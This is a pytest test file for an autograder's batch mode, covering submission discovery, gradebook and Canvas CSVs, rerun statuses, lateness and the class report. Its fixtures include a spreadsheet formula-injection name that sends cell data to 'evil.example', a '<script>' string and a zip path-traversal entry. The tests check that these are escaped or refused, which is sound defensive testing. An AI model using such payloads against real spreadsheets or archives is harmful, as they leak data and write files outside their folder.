"""Batch regrading without grading: finding submissions (folders, zips, wrong folders), the gradebook
files, the statuses and which of them a rerun grades again, lateness, the escaping of
student-controlled text, the report, and the preflight that stops a misconfigured batch."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from grader.batch.class_report import HISTOGRAM_FILE, SECTIONS_FILE, write_report
from grader.batch.discovery import (
    BatchInputError,
    Submission,
    Submitter,
    find_submissions,
    resolve_input,
)
from grader.batch.gradebook import write_gradebook
from grader.batch.grades import GRADER_ERROR, TIMEOUT, collect_rows, split_finished
from grader.batch.lateness import Deadlines, due_date, read_extensions
from grader.batch.pool import OUTCOME_FILE, RESULTS_FILE, RunOutcome, read_outcome, submission_dir
from grader.table import load_table

REPO = Path(__file__).resolve().parent.parent

METADATA = """\
submission_101:
  :submitters:
  - :name: Ada Lovelace
    :sid: '1815'
    :email: ada@example.edu
  - :name: Alan Turing
    :sid: '1912'
    :email: alan@example.edu
  :created_at: 2024-02-09 23:01:00.000000000 -08:00
  :score: 0.0
submission_102:
  :submitters:
  - :name: Grace Hopper
    :sid: '1906'
    :email: grace@example.edu
  :created_at: 2024-02-11 02:29:59.123456789 -08:00
"""


def _export(tmp_path: Path, metadata: str | None = METADATA) -> Path:
    export = tmp_path / "export"
    for folder in ("submission_102", "submission_101", "submission_103"):
        (export / folder).mkdir(parents=True)
        (export / folder / "A2S1.py").write_text("query121 = None\n")
    if metadata is not None:
        (export / "submission_metadata.yml").write_text(metadata)
    return export


def test_gradescope_export_gives_ids_and_submitters(tmp_path: Path) -> None:
    submissions, warnings = find_submissions(_export(tmp_path))
    assert [s.id for s in submissions] == ["101", "102", "103"]
    assert submissions[0].names == "Ada Lovelace; Alan Turing"
    assert submissions[0].emails == "ada@example.edu; alan@example.edu"
    assert submissions[1].submitters == (Submitter("Grace Hopper", "grace@example.edu", "1906"),)
    assert submissions[2].submitters == ()
    assert warnings == ["1 folder(s) not in submission_metadata.yml: submission_103"]
    assert submissions[0].submitted_at == due_date("2024-02-09T23:01:00-08:00")
    assert submissions[1].submitted_at == due_date("2024-02-11T02:29:59.123456-08:00")
    assert submissions[2].submitted_at is None


def test_any_folder_of_folders_works_and_broken_metadata_costs_only_names(tmp_path: Path) -> None:
    submissions, warnings = find_submissions(_export(tmp_path, metadata=":\n  - [unclosed"))
    assert [s.id for s in submissions] == ["101", "102", "103"]
    assert all(s.submitters == () for s in submissions)
    assert len(warnings) == 1 and "could not be read" in warnings[0]


def test_an_empty_or_missing_folder_is_a_clear_error(tmp_path: Path) -> None:
    with pytest.raises(BatchInputError, match="not a folder"):
        find_submissions(tmp_path / "nowhere")
    with pytest.raises(BatchInputError, match="no submission folders"):
        find_submissions(tmp_path)


def test_one_submission_or_the_parent_of_an_export_is_refused_with_the_path_to_use(
    tmp_path: Path,
) -> None:
    single = tmp_path / "alice"
    single.mkdir()
    (single / "A2S1 (1).py").write_text("query121 = None\n")
    with pytest.raises(BatchInputError, match=r"looks like one submission \(it holds A2S1 \(1\).py\)"):
        find_submissions(single)
    parent = tmp_path / "downloads"
    export = _export(parent)
    (parent / "notes").mkdir()
    with pytest.raises(BatchInputError, match=f"not an export but holds one: pass {export} instead"):
        find_submissions(parent)


def test_the_export_zip_is_unpacked_once_and_its_top_folder_used(tmp_path: Path) -> None:
    export = _export(tmp_path)
    archive = tmp_path / "export.zip"
    with zipfile.ZipFile(archive, "w") as bundle:
        for path in sorted(export.rglob("*")):
            bundle.write(path, f"assignment_77_export/{path.relative_to(export)}")
        bundle.writestr("__MACOSX/._junk", "")
    out = tmp_path / "out"
    folder = resolve_input(archive, out)
    assert folder == out / "export" / "assignment_77_export"
    submissions, _ = find_submissions(folder)
    assert [s.id for s in submissions] == ["101", "102", "103"]
    assert submissions[0].names == "Ada Lovelace; Alan Turing"
    (folder / "submission_101" / "A2S1.py").write_text("query121 = 1\n")
    assert resolve_input(archive, out) == folder
    assert (folder / "submission_101" / "A2S1.py").read_text() == "query121 = 1\n", "unpacked once"


def test_a_zip_with_a_path_outside_its_folder_is_refused(tmp_path: Path) -> None:
    archive = tmp_path / "evil.zip"
    with zipfile.ZipFile(archive, "w") as bundle:
        bundle.writestr("submission_1/A2S1.py", "")
        bundle.writestr("../../escaped.py", "")
    with pytest.raises(BatchInputError, match="outside its folder"):
        resolve_input(archive, tmp_path / "out")
    assert not (tmp_path / "escaped.py").exists()


def _finish(out: Path, submission: Submission, outcome: RunOutcome, results: dict | None) -> None:
    folder = submission_dir(out, submission)
    folder.mkdir(parents=True)
    (folder / OUTCOME_FILE).write_text(json.dumps(outcome.__dict__))
    if results is not None:
        (folder / RESULTS_FILE).write_text(json.dumps(results))


def _results(scores: dict[str, tuple[float, str]], statuses: dict[str, str] | None = None) -> dict:
    """A results.json as the grader writes it; `statuses` overrides a failed test's status."""
    table = load_table()
    tests = []
    for number, (score, output) in scores.items():
        row = table.test(number)
        passed = score == row.points
        status = "passed" if passed else (statuses or {}).get(number, "failed")
        tests.append(
            {
                "number": number,
                "name": row.name,
                "score": score,
                "max_score": row.max_score,
                "status": "passed" if passed else "failed",
                "output": output,
                "extra_data": {"section": row.section, "status": status},
            }
        )
    return {"score": sum(test["score"] for test in tests), "tests": tests}


HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _graded_class(tmp_path: Path) -> tuple[Path, list]:
    """Ten submissions, one per status and score pattern, graded on §1 only."""
    graded = load_table().select({1})
    out = tmp_path / "out"
    group = (Submitter("Ada", "ada@example.edu", "1"), Submitter(HOSTILE_NAME, "-cmd@example.edu", "2"))
    submissions = [Submission(str(i), tmp_path / str(i), group if i == 1 else ()) for i in range(1, 11)]
    full = {row.number: (row.points, "") for row in graded}
    off = "Off by up to {} (allowed: 0.05).\nmore detail"
    none = {number: (0.0, "missing") for number in full}
    flagged = _results({**full, "1.2.1": (0.0, off.format(0.26))})
    forged = {
        "section": 1,
        "kind": "recorder",
        "what": "the canary went missing",
        "where": "<script>x</script>",
    }
    noted = {
        "section": 1,
        "kind": "note",
        "what": "calls globals(), in code no answer reaches",
        "where": "l. 9",
    }
    integrity = {"flagged": True, "flags": [forged, {**forged, "section": 2}], "notes": [noted]}
    flagged["extra_data"] = {"integrity": integrity}
    first = {**full, "1.3.2": (0.0, "wrong"), "1.4.2": (0.0, "| **bold** |")}
    _finish(out, submissions[0], RunOutcome("1", "ok", 3.0), _results(first))
    _finish(out, submissions[1], RunOutcome("2", "ok", 2.5), flagged)
    _finish(
        out, submissions[2], RunOutcome("3", "ok", 2.0), _results({**full, "1.2.1": (0.0, off.format(0.54))})
    )
    _finish(out, submissions[3], RunOutcome("4", "timeout", 60.0, "grading did not finish"), None)
    _finish(out, submissions[4], RunOutcome("5", "ok", 1.0), _results(none, dict.fromkeys(full, "no file")))
    template = dict.fromkeys(full, "not implemented")
    _finish(out, submissions[5], RunOutcome("6", "ok", 1.0), _results(none, template))
    _finish(
        out, submissions[6], RunOutcome("7", "ok", 1.0), _results(none, dict.fromkeys(full, "student error"))
    )
    _finish(out, submissions[7], RunOutcome("8", "error", 1.0, "the grader exited with status 1"), None)
    # Every §1 answer hung: the run itself finished and its results are a grade (0), not a timeout.
    hung = RunOutcome("9", "ok", 130.0, "the grader exited with status 1 after writing its results")
    _finish(out, submissions[8], hung, _results(none, dict.fromkeys(full, "timeout")))
    ours = _results({**full, "1.3.1": (0.0, "The grader hit an internal error")}, {"1.3.1": "internal error"})
    _finish(out, submissions[9], RunOutcome("10", "ok", 4.0), ours)
    outcomes = {s.id: read_outcome(submission_dir(out, s)) for s in submissions}
    return out, collect_rows(submissions, outcomes, out, graded)


def _read(path: Path) -> list[dict[str, str]]:
    with path.open() as handle:
        return list(csv.DictReader(handle))


def test_grades_csv_has_a_row_per_student_with_status_base_and_extra_credit(tmp_path: Path) -> None:
    table = load_table()
    graded = table.select({1})
    out, rows = _graded_class(tmp_path)
    write_gradebook(out, rows, graded, "Assignment 2 (4242)", "CSE 447")
    records = _read(out / "grades.csv")
    assert [(r["submission_id"], r["status"]) for r in records] == [
        ("1", "ok"),
        ("1", "ok"),
        ("2", "ok"),
        ("3", "ok"),
        ("4", "timeout"),
        ("5", "no file"),
        ("6", "untouched template"),
        ("7", "student error"),
        ("8", "internal grader error"),
        ("9", "student error"),
        ("10", "internal grader error"),
    ]
    assert {r["course"] for r in records} == {"CSE 447"}
    ada, hostile = records[0], records[1]
    base = sum(row.points for row in graded if not row.extra_credit)
    assert (ada["name"], ada["sid"], ada["email"]) == ("Ada", "1", "ada@example.edu")
    assert float(ada["base_points"]) == base - 2.5 and float(ada["base_max"]) == base
    assert float(ada["extra_credit"]) == 2.5 and float(ada["total"]) == base
    assert ada["test_1.4.2"] == "0" and ada["status_1.4.2"] == "failed" and ada["status_1.2.1"] == "passed"
    assert hostile["name"] == "'" + HOSTILE_NAME and hostile["email"] == "'-cmd@example.edu"
    assert hostile["total"] == ada["total"], "a group's members share its grade"
    flag = "recorder: the canary went missing (<script>x</script>)"
    assert records[2]["integrity"] == f"§1 {flag}; §2 {flag}"
    assert records[4]["total"] == "" and records[4]["test_1.2.1"] == "", "a timeout is no grade"
    assert records[5]["total"] == "0" and records[5]["status_1.2.1"] == "no file"
    assert records[8]["total"] == "" and records[8]["message"] == "the grader exited with status 1"
    assert records[9]["total"] == "0" and records[9]["status_1.2.1"] == "timeout", "a hung answer is graded"
    assert records[10]["total"] == "" and records[10]["status_1.3.1"] == "internal error"

    canvas = _read(out / "canvas.csv")
    assert list(canvas[0]) == [
        "Student",
        "ID",
        "SIS User ID",
        "SIS Login ID",
        "Section",
        "Assignment 2 (4242)",
    ]
    assert canvas[1]["Student"] == "'" + HOSTILE_NAME and canvas[1]["SIS User ID"] == "2"
    assert float(canvas[1]["Assignment 2 (4242)"]) == base
    assert [c["Assignment 2 (4242)"] for c in canvas[4:]] == ["", "0", "0", "0", "", "0", ""]

    tests = _read(out / "tests.csv")
    assert len(tests) == 10 * len(graded)
    first = next(t for t in tests if t["submission_id"] == "2" and t["test"] == "1.2.1")
    assert first["status"] == "failed" and first["feedback"] == "Off by up to 0.26 (allowed: 0.05)."
    assert first["extra_credit"] == "no" and first["points"] == "2.5"


def test_report_lists_who_to_look_at_and_escapes_what_students_wrote(tmp_path: Path) -> None:
    table = load_table()
    graded = table.select({1})
    out, rows = _graded_class(tmp_path)
    report = write_report(out, rows, table, graded, below=8).read_text()
    assert (out / HISTOGRAM_FILE).read_bytes().startswith(b"\x89PNG")
    assert (out / SECTIONS_FILE).read_bytes().startswith(b"\x89PNG")
    assert report.startswith("# Assignment 2: Attention and Transformers, CSE 447: batch grading report")
    assert (
        "10 submissions: 3 ok, 1 no file, 1 untouched template, 2 student error, 1 timeout, "
        "2 internal grader error." in report
    )
    assert "## Missing notebooks (1)" in report and "| 5 |  | A2S1 |" in report
    assert "## Untouched templates (1)" in report and "| 6 |  | untouched template |" in report
    assert "## Integrity flags (what could touch a verdict) (1)" in report
    assert "## Constructs noted (they cost nothing" in report
    assert "| 2 |  | §1 note: calls globals(), in code no answer reaches (l. 9) |" in report
    assert "| 2 |  | §1 recorder: the canary went missing (&lt;script&gt;x&lt;/script&gt;); §2" in report
    assert "## Below 8 of 10 base points (7)" in report
    assert "| 8 |  | internal grader error: the grader exited with status 1 |" in report
    assert '| 1 | Ada; =HYPERLINK("http://evil.example/?"&amp;A1,"Click") | 7.5 |' in report
    assert "- 2× Off by up to 0.26 (allowed: 0.05)." in report, "one mistake, two numbers"
    assert "- 1× \\| \\*\\*bold\\*\\* \\|" in report
    assert "more detail" not in report
    assert "| 1.2.1 | query121 selects v0 | 2.5 | 0.36 | 1/7 | 6/7 | 0: 6, 2.5: 1 |" in report
    assert "Late" not in report, "no due date, no lateness"


def test_a_rerun_grades_again_only_what_never_finished_or_has_no_grade(tmp_path: Path) -> None:
    out, rows = _graded_class(tmp_path)
    graded = load_table().select({1})
    submissions = [row.submission for row in rows] + [Submission("11", tmp_path / "11")]

    def pending(retry: set[str]) -> list[str]:
        return [s.id for s in split_finished(submissions, out, graded, frozenset(retry))[0]]

    assert pending({TIMEOUT, GRADER_ERROR}) == ["4", "8", "10", "11"]
    assert pending({GRADER_ERROR}) == ["8", "10", "11"]
    assert pending(set()) == ["11"]


# Stands in for `python -m grader`: passes the preflight, and for `grade` writes the results.json the
# grader would for §1 with every test passed, then exits with the status in $EXIT.
FAKE_GRADER = """
import json, os, sys
from grader.results import CheckOutcome, build_results, write_results
from grader.table import load_table
if sys.argv[1] == "preflight":
    sys.exit(0)
rows = load_table().select({1})
results = build_results(rows, {row.number: CheckOutcome(True) for row in rows}, "graded", 1)
write_results(__import__("pathlib").Path(sys.argv[sys.argv.index("--results") + 1]), results)
sys.exit(int(os.environ["EXIT"]))
"""


def _batch(export: Path, out: Path, *options: str, env: dict | None = None) -> subprocess.CompletedProcess:
    command = [sys.executable, "-m", "grader", "batch", str(export), "--out", str(out), *options]
    environment = {**os.environ, **(env or {})}
    return subprocess.run(
        command, cwd=REPO, env=environment, capture_output=True, text=True, timeout=300, check=False
    )


def test_a_run_that_wrote_valid_results_is_a_grade_whatever_its_exit_status(tmp_path: Path) -> None:
    fake = tmp_path / "fake_grader.py"
    fake.write_text(FAKE_GRADER)
    command = f"{sys.executable} {fake}"
    out = tmp_path / "out"
    finished = _batch(
        _export(tmp_path),
        out,
        "--sections",
        "1",
        "--grader-command",
        command,
        env={"EXIT": "1", "PYTHONPATH": str(REPO)},
    )
    assert finished.returncode == 0, finished.stdout + finished.stderr
    records = _read(out / "grades.csv")
    assert {(r["status"], r["total"]) for r in records} == {("ok", "15")}, records
    assert records[0]["message"] == "the grader exited with status 1 after writing its results"
    assert "Done (CSE 447): 3 ok," in finished.stdout
    again = _batch(
        tmp_path / "export",
        out,
        "--sections",
        "1",
        "--grader-command",
        command,
        env={"EXIT": "1", "PYTHONPATH": str(REPO)},
    )
    assert (
        "Keeping the grades of 3 submission(s)" in again.stdout and "Grading 0 submission(s)" in again.stdout
    )


def test_internal_grader_errors_make_the_batch_fail_and_list_them(tmp_path: Path) -> None:
    export = _export(tmp_path)
    crashing = "sh -c '[ \"$0\" = preflight ] && exit 0; echo grader crashed; exit 3'"
    finished = _batch(export, tmp_path / "out", "--sections", "1", "--grader-command", crashing)
    assert finished.returncode == 1, finished.stdout + finished.stderr
    assert "3 submission(s) ended with an internal grader error" in finished.stdout
    assert "  101 (Ada Lovelace; Alan Turing): the grader exited with status 3" in finished.stdout
    records = _read(tmp_path / "out" / "grades.csv")
    assert {r["status"] for r in records} == {"internal grader error"} and len(records) == 4
    assert all(r["total"] == "" for r in records)


def test_a_setup_that_cannot_grade_stops_the_batch_before_anyone_is_graded(tmp_path: Path) -> None:
    """`--profile full` on a machine with no model cache and no GPU: the fix, not a class of zeros."""
    out = tmp_path / "out"
    finished = _batch(
        _export(tmp_path), out, "--profile", "full", env={"HF_HOME": str(tmp_path / "empty-hf")}
    )
    assert finished.returncode == 2, finished.stdout + finished.stderr
    assert "error: this setup cannot grade CSE 447 on 'full'" in finished.stdout
    assert "python -m grader prepare full" in finished.stdout, "the command that fixes it"
    if not _has_gpu():
        assert "this machine has none" in finished.stdout
    assert "Nothing was graded" in finished.stdout and not (out / "submissions").exists()


def _has_gpu() -> bool:
    import torch

    return torch.cuda.is_available()


def test_lateness_against_the_due_date_and_extensions(tmp_path: Path) -> None:
    table = load_table()
    graded = table.select({1})
    submissions, _ = find_submissions(_export(tmp_path))
    out = tmp_path / "out"
    full = {row.number: (row.points, "") for row in graded}
    for submission in submissions:
        _finish(out, submission, RunOutcome(submission.id, "ok", 1.0), _results(full))
    outcomes = {s.id: read_outcome(submission_dir(out, s)) for s in submissions}
    rows = collect_rows(submissions, outcomes, out, graded)
    extensions = tmp_path / "extensions.csv"
    extensions.write_text(
        "sid,email,due\n1912,,2024-02-10T23:59-08:00\n,GRACE@example.edu,2024-02-12T00:00-08:00\n"
    )
    deadlines = Deadlines(due_date("2024-02-09T22:59-08:00"), read_extensions(extensions))
    write_gradebook(out, rows, graded, "A2", "CSE 447", deadlines)
    late = {(r["name"], r["submitted_at"], r["due"], r["hours_late"]) for r in _read(out / "grades.csv")}
    assert late == {
        ("Ada Lovelace", "2024-02-09T23:01:00-08:00", "2024-02-09T22:59:00-08:00", "0.03"),
        ("Alan Turing", "2024-02-09T23:01:00-08:00", "2024-02-10T23:59:00-08:00", "0"),
        ("Grace Hopper", "2024-02-11T02:29:59-08:00", "2024-02-12T00:00:00-08:00", "0"),
        ("", "", "2024-02-09T22:59:00-08:00", ""),
    }
    report = write_report(out, rows, table, graded, 0, deadlines).read_text()
    assert (
        "## Late (no penalty applied) (1)" in report
        and "| 101 | Ada Lovelace; Alan Turing | 0.03 |" in report
    )


def test_due_dates_need_an_offset_and_extensions_name_the_bad_line(tmp_path: Path) -> None:
    with pytest.raises(Exception, match="has no UTC offset: add the course's"):
        due_date("2024-02-09T23:59")
    extensions = tmp_path / "extensions.csv"
    extensions.write_text("sid,due\n1,2024-02-10T23:59-08:00\n2,tomorrow\n")
    with pytest.raises(BatchInputError, match=r"extensions.csv:3: 'tomorrow' is not a date"):
        read_extensions(extensions)


@pytest.mark.skipif(os.geteuid() != 0, reason="only root runs submissions as another user")
def test_slurm_refuses_tasks_at_once_under_one_named_user(tmp_path: Path) -> None:
    command = [sys.executable, "-m", "grader", "batch", str(_export(tmp_path)), "--out", str(tmp_path / "o")]
    command += ["--slurm", "--sandbox-user", "nobody"]
    finished = subprocess.run(command, cwd=REPO, capture_output=True, text=True, timeout=120)
    assert finished.returncode == 2 and "or --max-parallel 1" in finished.stdout, finished.stdout


def test_by_default_a_rerun_grades_again_both_statuses_without_a_grade() -> None:
    from grader.cli import build_parser

    args = build_parser().parse_args(["batch", "export", "--out", "out"])
    assert args.retry == {TIMEOUT, GRADER_ERROR}
    assert build_parser().parse_args(["batch", "e", "--out", "o", "--retry", "none"]).retry == frozenset()
